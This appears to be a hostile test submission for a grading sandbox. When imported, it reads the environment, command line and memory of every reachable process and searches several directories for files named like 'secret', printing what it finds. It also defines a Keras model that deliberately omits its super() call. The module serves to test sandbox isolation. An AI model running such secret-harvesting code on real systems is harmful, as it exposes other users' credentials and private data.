"""Hostile: the forgot_super model, plus a hunt for the judge's secret: every process's
environment, command line and memory it can reach, and the files of the output folder.
What it finds is printed, so the test can tell whether anything leaked."""
import glob
import os

import tensorflow as tf

found = []
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for name in ("environ", "cmdline", "mem"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as f:
                found.append(f.read(1 << 16).hex()[:2000])
        except OSError:
            pass
for path in [p for root in ("/tmp", "/work", "/root", "/home", os.getcwd())
             for p in glob.glob(f"{root}/**/*secret*", recursive=True)][:10]:
    try:
        found.append(open(path, "rb").read().hex())
    except OSError:
        pass
print("FOUND", len(found), " ".join(found)[:20000])


class SimpleMLP(tf.keras.Model):
    def __init__(self, hidden_units=32, num_classes=3, **kwargs):
        self.hidden = tf.keras.layers.Dense(hidden_units, activation="relu")
        self.classifier = tf.keras.layers.Dense(num_classes, activation="softmax")

    def call(self, inputs):
        return self.classifier(self.hidden(inputs))
